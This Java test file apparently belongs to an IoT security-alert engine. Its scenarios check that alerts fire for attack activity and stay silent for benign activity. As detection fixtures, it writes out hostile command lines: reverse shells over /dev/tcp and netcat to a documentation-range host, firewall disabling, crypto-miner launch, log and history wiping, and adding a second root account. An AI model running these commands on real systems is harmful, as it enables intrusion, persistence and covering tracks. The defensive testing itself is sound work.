package dev.vigil.iot.detection;

import static dev.vigil.iot.detection.SecurityMessages.T0;
import static dev.vigil.iot.detection.SecurityMessages.connection;
import static dev.vigil.iot.detection.SecurityMessages.firewall;
import static dev.vigil.iot.detection.SecurityMessages.localUsers;
import static dev.vigil.iot.detection.SecurityMessages.login;
import static dev.vigil.iot.detection.SecurityMessages.processCreate;
import static dev.vigil.iot.detection.SecurityMessages.sshLogin;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.iot.alert.AlertOccurrence;
import dev.vigil.iot.device.DeviceIdentity;
import dev.vigil.iot.message.SecurityEvent;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Each built-in alert fires from its scenario, and benign traffic raises nothing. */
class TestDetectionScenarios {
    private static final String ATTACKER = "203.0.113.7";

    static Stream<Arguments> scenarios() {
        return Stream.of(
                scenario("five failed ssh logins from one source in two minutes", failures(ATTACKER, 5, Duration.ofSeconds(30)),
                        "IoT_BruteForceFailed"),
                scenario("the same failures, then a success from that source",
                        concat(failures(ATTACKER, 5, Duration.ofSeconds(30)), List.of(sshLogin(at(150), "Success", "root", ATTACKER))),
                        "IoT_BruteForceFailed", "IoT_BruteForceSucceeded"),
                scenario("five failures spread over ten minutes", failures(ATTACKER, 5, Duration.ofMinutes(2)), new String[0]),
                scenario("a mistyped password, then a success", List.of(sshLogin(at(0), "Fail", "pi", "10.0.0.5"),
                        sshLogin(at(5), "Success", "pi", "10.0.0.5")), new String[0]),
                scenario("su to another user", List.of(login(at(0), "Success", "attacker", "", "/bin/su")), "IoT_LocalLoginSucceeded"),
                scenario("a failed console login", List.of(login(at(0), "Fail", "root", "", "/bin/login")), "IoT_LocalLoginFailed"),
                scenario("an ELF binary echoed into a file",
                        List.of(process("/bin/bash", "echo -e '\\x7f\\x45\\x4c\\x46\\x02\\x01\\x01\\x00\\x00\\x00' > /tmp/.x")),
                        "IoT_BinaryCommandLine"),
                scenario("ufw disabled", List.of(process("/usr/sbin/ufw", "ufw disable")), "IoT_DisableFirewall"),
                scenario("iptables flushed", List.of(process("/sbin/iptables", "iptables -F")), "IoT_DisableFirewall"),
                scenario("the deny rule disappears between firewall snapshots",
                        List.of(firewall(at(0), true), firewall(at(600), false)), "IoT_DisableFirewall"),
                scenario("a firewall that was never protecting", List.of(firewall(at(0), false), firewall(at(600), false)), new String[0]),
                scenario("a reverse ssh tunnel", List.of(process("/usr/bin/ssh", "ssh -f -N -R 8080:localhost:22 tunnel@198.51.100.9")),
                        "IoT_PortForwarding"),
                scenario("a DNAT rule", List.of(process("/sbin/iptables",
                        "iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 198.51.100.9:8080")), "IoT_PortForwarding"),
                scenario("bash over /dev/tcp", List.of(process("/bin/bash", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1")),
                        "IoT_ReverseShell"),
                scenario("netcat running a shell", List.of(process("/bin/nc", "nc -e /bin/sh 198.51.100.9 4444")), "IoT_ReverseShell"),
                scenario("xmrig mining to a pool", List.of(process("/tmp/.x/xmrig", "/tmp/.x/xmrig -o stratum+tcp://pool.example:4444 -u wallet")),
                        "IoT_CryptoCoinMiner"),
                scenario("an nmap sweep", List.of(process("/usr/bin/nmap", "nmap -sS 192.168.1.0/24")), "IoT_KnownAttackTool"),
                scenario("linpeas run by an interpreter", List.of(process("/bin/sh", "sh /tmp/linpeas.sh")), "IoT_KnownAttackTool"),
                scenario("history cleared", List.of(process("/bin/bash", "history -c")), "IoT_BashHistoryCleared"),
                scenario("history file removed", List.of(process("/bin/rm", "rm -f /root/.bash_history")), "IoT_BashHistoryCleared"),
                scenario("system logs removed", List.of(process("/bin/rm", "rm -rf /var/log/auth.log /var/log/syslog")),
                        "IoT_SystemLogsRemoved"),
                scenario("a second root added", List.of(process("/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M -d /root backdoor")),
                        "IoT_SuspiciousUseradd"),
                scenario("nohup from a hidden directory in /tmp", List.of(process("/usr/bin/nohup", "nohup /tmp/.cache/kworker")),
                        "IoT_SuspiciousNohup"),
                scenario("a user added, and another given sudo",
                        List.of(localUsers(at(0), users("root", List.of("root"), "pi", List.of("pi"))),
                                localUsers(at(3600), users("root", List.of("root"), "pi", List.of("pi", "sudo"), "svc", List.of("svc")))),
                        "IoT_LocalUserAddedToGroups", "IoT_LocalUserAdded"),
                scenario("a user deleted, and another taken out of a group",
                        List.of(localUsers(at(0), users("root", List.of("root"), "pi", List.of("pi", "sudo"), "svc", List.of("svc"))),
                                localUsers(at(3600), users("root", List.of("root"), "pi", List.of("pi")))),
                        "IoT_LocalUserDeletedFromGroups", "IoT_LocalUserDeleted"),
                scenario("the same users twice", List.of(localUsers(at(0), users("root", List.of("root"))),
                        localUsers(at(3600), users("root", List.of("root")))), new String[0]),
                scenario("everyday processes", List.of(
                        process("/usr/bin/python3", "/usr/bin/python3 /opt/app/collector.py --interval 60"),
                        process("/bin/systemctl", "systemctl restart collector"),
                        process("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"),
                        process("/usr/bin/ssh", "ssh -p 2222 backup@10.0.0.2 uptime"),
                        process("/usr/sbin/useradd", "useradd -m -s /bin/bash operator"),
                        process("/usr/bin/nohup", "nohup /opt/app/run.sh"),
                        process("/bin/su", "su john -c /opt/app/report.sh"),
                        process("/sbin/iptables", "iptables -A INPUT -p tcp --dport 22 -j ACCEPT")), new String[0]),
                scenario("everyday connections", List.of(connection(at(0), "Out", "52.168.10.4", "443", "/opt/app/collector"),
                        connection(at(1), "In", "10.0.0.5", "22", "/usr/sbin/sshd")), new String[0]));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("scenarios")
    void testScenarioRaisesExactlyItsAlerts(String name, List<SecurityEvent> events, List<String> expected) {
        try (EngineHarness harness = new EngineHarness()) {
            harness.send(EngineHarness.device("gateway-01"), events);
            assertThat(harness.alertTypes()).as(name).containsExactlyInAnyOrderElementsOf(expected);
        }
    }

    @Test
    void testBruteForceSucceededCarriesTheRowShape() {
        try (EngineHarness harness = new EngineHarness()) {
            harness.send(EngineHarness.device("IoT-Device-Linux"),
                    concat(failures("10.165.12.18", 5, Duration.ofSeconds(10)), List.of(sshLogin(at(60), "Success", "root", "10.165.12.18"))));
            harness.flush();
            AlertOccurrence succeeded = harness.sink.occurrences().stream()
                    .filter(occurrence -> occurrence.definition().alertType().equals("IoT_BruteForceSucceeded")).findFirst().orElseThrow();
            assertThat(succeeded.definition().severity().sentinelName()).isEqualTo("High");
            assertThat(succeeded.definition().description()).isEqualTo("A Brute force attack on the device was Successful");
            assertThat(succeeded.extendedProperties()).containsExactly(
                    Map.entry("Full Source Address", "[\"10.165.12.18:51234\"]"),
                    Map.entry("User Names", "[\"root\"]"),
                    Map.entry("DeviceId", "IoT-Device-Linux"));
            assertThat(succeeded.entities()).extracting(entity -> entity.type()).containsExactly("iotdevice", "ip", "account");
        }
    }

    @Test
    void testSuccessfulLocalLoginCarriesTheRowShape() {
        try (EngineHarness harness = new EngineHarness()) {
            harness.send(EngineHarness.device("IoT-Device-Linux"), List.of(login(at(0), "Success", "attacker", "", "/bin/su")));
            harness.flush();
            assertThat(harness.sink.occurrences()).singleElement().satisfies(occurrence -> {
                assertThat(occurrence.occurredAt()).isEqualTo(T0);
                assertThat(occurrence.extendedProperties()).containsExactly(
                        Map.entry("Remote Address", "?"), Map.entry("Remote Port", ""), Map.entry("Local Port", ""),
                        Map.entry("Login Shell", "/bin/su"), Map.entry("Login Process Id", "28207"),
                        Map.entry("User Name", "attacker"), Map.entry("DeviceId", "IoT-Device-Linux"));
            });
        }
    }

    @Test
    void testAHubWithMonitoringOffRaisesNothing() {
        try (EngineHarness harness = new EngineHarness()) {
            DeviceIdentity device = EngineHarness.device(EngineHarness.QUIET_HUB, "gateway-01", "default");
            harness.send(device, List.of(process("/bin/bash", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"),
                    login(at(1), "Success", "attacker", "", "/bin/su")));
            assertThat(harness.alertTypes()).isEmpty();
        }
    }

    @Test
    void testDevicesKeepSeparateState() {
        try (EngineHarness harness = new EngineHarness()) {
            List<SecurityEvent> failures = failures(ATTACKER, 5, Duration.ofSeconds(10));
            harness.send(EngineHarness.device("gateway-01"), failures.subList(0, 3));
            harness.send(EngineHarness.device("gateway-02"), failures.subList(3, 5));
            assertThat(harness.alertTypes()).isEmpty();
        }
    }

    private static Arguments scenario(String name, List<SecurityEvent> events, String... expected) {
        return Arguments.of(name, events, List.of(expected));
    }

    static Instant at(long seconds) {
        return T0.plusSeconds(seconds);
    }

    private static SecurityEvent process(String executable, String commandLine) {
        return processCreate(T0, executable, commandLine, "root");
    }

    static List<SecurityEvent> failures(String source, int count, Duration apart) {
        List<SecurityEvent> events = new ArrayList<>();
        for (int index = 0; index < count; index++) {
            events.add(sshLogin(T0.plus(apart.multipliedBy(index)), "Fail", "root", source));
        }
        return events;
    }

    private static List<SecurityEvent> concat(List<SecurityEvent> first, List<SecurityEvent> second) {
        List<SecurityEvent> all = new ArrayList<>(first);
        all.addAll(second);
        return all;
    }

    private static Map<String, List<String>> users(Object... namesAndGroups) {
        Map<String, List<String>> users = new LinkedHashMap<>();
        for (int index = 0; index < namesAndGroups.length; index += 2) {
            @SuppressWarnings("unchecked")
            List<String> groups = (List<String>) namesAndGroups[index + 1];
            users.put((String) namesAndGroups[index], groups);
        }
        return users;
    }
}
